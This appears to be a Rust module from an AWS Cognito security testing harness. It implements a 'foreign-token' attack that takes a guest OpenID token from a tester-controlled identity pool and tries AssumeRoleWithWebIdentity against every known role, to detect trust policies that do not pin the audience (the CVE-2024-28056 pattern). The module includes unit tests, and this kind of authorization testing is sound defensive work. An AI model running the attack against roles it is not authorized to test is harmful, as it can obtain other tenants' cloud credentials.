//! foreign-token: a guest identity of `attacks.foreign_pool`, an identity pool the tester
//! controls, gets an OpenID token (GetId without logins, then GetOpenIdToken) and tries
//! STS AssumeRoleWithWebIdentity on every known role. A role whose trust policy does not
//! pin `cognito-identity.amazonaws.com:aud` to the application's pool accepts it (the
//! Amplify CVE-2024-28056 pattern); one that does answers AccessDenied
//! (https://docs.aws.amazon.com/cognito/latest/developerguide/role-trust-and-permissions.html,
//! https://docs.aws.amazon.com/STS/latest/APIReference/API_AssumeRoleWithWebIdentity.html).

use super::calls::{assume_role_with_web_identity, guest_identity_id, open_id_token};
use super::escalation::AttackAttempt;
use super::kind::AttackKind;
use super::planning::case;
use super::refusal::IdentityCall;
use super::target::AttackTarget;
use super::verdict::{not_tried, obtained, refused};
use crate::identity::{AwsTarget, CredentialsSource};
use crate::probe::Observation;
use crate::redaction::Redactor;
use crate::scenario::{PlannedProbe, Scenario, User};
use crate::secret::SecretString;
use std::collections::HashMap;
use tokio::sync::OnceCell;

/// The user name of the foreign-token cases: the foreign pool's guest, no scenario user.
pub const FOREIGN_USER: &str = "foreign-pool";

const METHOD: &str = "foreign-token";

/// What the evidence says when the scenario names no foreign pool.
pub const NOT_EXERCISED: &str = "foreign-token: not exercised: add attacks.foreign_pool (an identity pool you control, with guest access and the basic flow on) to try another pool's token on every known role";

/// One case per known role, when the scenario names a foreign pool and the kind is on.
pub fn foreign_token_cases(scenario: &Scenario, roles: &[String]) -> Vec<PlannedProbe> {
    let settings = &scenario.attacks;
    if !settings.runs(AttackKind::ForeignToken)
        || settings.foreign_pool.is_none()
        || scenario.user(FOREIGN_USER).is_some()
    {
        return Vec::new();
    }
    let foreigner = User {
        name: FOREIGN_USER.to_owned(),
        tenant: None,
        username: None,
        password: None,
        role_arn: None,
        guest: true,
        credentials_refused: false,
    };
    roles
        .iter()
        .map(|role| {
            case(
                scenario,
                &foreigner,
                AttackTarget {
                    kind: AttackKind::ForeignToken,
                    role_arn: Some(role.clone()),
                    victim: None,
                    claims: Vec::new(),
                    reach: Vec::new(),
                },
            )
        })
        .collect()
}

/// Why the foreign-token attack is not in the plan, if it is on but cannot run.
pub fn not_exercised(scenario: &Scenario) -> Option<&'static str> {
    let settings = &scenario.attacks;
    (settings.runs(AttackKind::ForeignToken) && settings.foreign_pool.is_none())
        .then_some(NOT_EXERCISED)
}

/// The foreign pool as the harness knows it, and its guest token, asked for once per run.
#[derive(Debug, Clone, Copy)]
pub struct ForeignPool<'a> {
    pub identity_pool_id: &'a str,
    pub target: &'a AwsTarget,
    pub redactor: &'a Redactor,
    pub memo: &'a ForeignTokenMemo,
}

/// The foreign pool's guest OpenID token, or the attempt that failed to get it.
#[derive(Debug, Default)]
pub struct ForeignTokenMemo {
    token: OnceCell<Result<SecretString, crate::probe::Attempt>>,
}

/// Tries for `role_arn` with the foreign pool's guest token. The foreign pool is the
/// tester's: failing to get a token there proves nothing about the application, so it is
/// Inconclusive, never a denial.
pub async fn foreign_token(pool: ForeignPool<'_>, role_arn: &str) -> AttackAttempt {
    let token = pool
        .memo
        .token
        .get_or_init(|| guest_token(pool))
        .await
        .clone();
    let token = match token {
        Ok(token) => token,
        Err(attempt) => return AttackAttempt::only(attempt),
    };
    let unsigned = pool.target.sdk_config(CredentialsSource::Unsigned).await;
    let sts = aws_sdk_sts::Client::new(&unsigned);
    let call = IdentityCall::AssumeRoleWithWebIdentity;
    match assume_role_with_web_identity(pool.redactor, &sts, role_arn, "xtenant-foreign", &token)
        .await
    {
        Ok(credentials) => AttackAttempt::escalated(
            obtained(
                call,
                METHOD,
                format!(
                    "AssumeRoleWithWebIdentity returned credentials for `{role_arn}` to a guest token of the foreign pool `{}`",
                    pool.identity_pool_id
                ),
            ),
            role_arn.to_owned(),
            credentials,
        ),
        Err(observation) => AttackAttempt::only(refused(call, METHOD, observation)),
    }
}

async fn guest_token(pool: ForeignPool<'_>) -> Result<SecretString, crate::probe::Attempt> {
    let unsigned = pool.target.sdk_config(CredentialsSource::Unsigned).await;
    let identity = aws_sdk_cognitoidentity::Client::new(&unsigned);
    let identity_id = guest_identity_id(&identity, pool.identity_pool_id)
        .await
        .map_err(|observation| unusable(IdentityCall::GetId, &observation))?;
    open_id_token(pool.redactor, &identity, &identity_id, &HashMap::new())
        .await
        .map_err(|observation| unusable(IdentityCall::GetOpenIdToken, &observation))
}

/// The foreign pool did not give a guest token: the attack could not be made.
fn unusable(call: IdentityCall, observation: &Observation) -> crate::probe::Attempt {
    let answer = observation
        .error_code
        .clone()
        .or_else(|| observation.transport_detail.clone())
        .unwrap_or_else(|| "no detail".to_owned());
    not_tried(
        call,
        METHOD,
        format!(
            "attacks.foreign_pool gave no guest token ({} answered {answer}): it needs guest access and the basic (classic) flow on",
            call.api()
        ),
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attack::known_roles;
    use std::path::Path;

    fn pacific() -> Scenario {
        let file = Path::new(env!("CARGO_MANIFEST_DIR")).join("scenarios/pacific/matrix.yaml");
        crate::scenario::load(&file).expect("a shipped scenario is valid")
    }

    #[test]
    fn a_foreign_pool_plans_one_case_per_known_role_as_no_scenario_user() {
        let mut scenario = pacific();
        scenario.attacks.foreign_pool =
            Some("us-east-1:0000aaaa-0000-4000-8000-000000000000".into());
        let roles = known_roles(&scenario);
        let cases = foreign_token_cases(&scenario, &roles);
        let names: Vec<&str> = cases.iter().map(|case| case.name.0.as_str()).collect();
        assert_eq!(
            names,
            [
                "foreign-pool::attack::foreign-token::PacificTenantAcme",
                "foreign-pool::attack::foreign-token::PacificTenantGlobex",
                "foreign-pool::attack::foreign-token::PacificTenantInitech",
                "foreign-pool::attack::foreign-token::PacificGuest",
            ]
        );
        assert!(
            cases
                .iter()
                .all(|case| case.expectation == crate::scenario::Expectation::Deny)
        );
        assert_eq!(not_exercised(&scenario), None);
        assert!(scenario.plan().not_exercised.is_empty());
    }

    #[test]
    fn without_a_foreign_pool_the_attack_is_recorded_as_not_exercised_not_planned() {
        let scenario = pacific();
        assert!(foreign_token_cases(&scenario, &known_roles(&scenario)).is_empty());
        let plan = scenario.plan();
        assert_eq!(plan.not_exercised, [NOT_EXERCISED]);
        assert!(!plan.probes.iter().any(|p| p.user == FOREIGN_USER));

        let mut off = pacific();
        off.attacks.enabled.remove(&AttackKind::ForeignToken);
        assert!(off.plan().not_exercised.is_empty());
    }
}
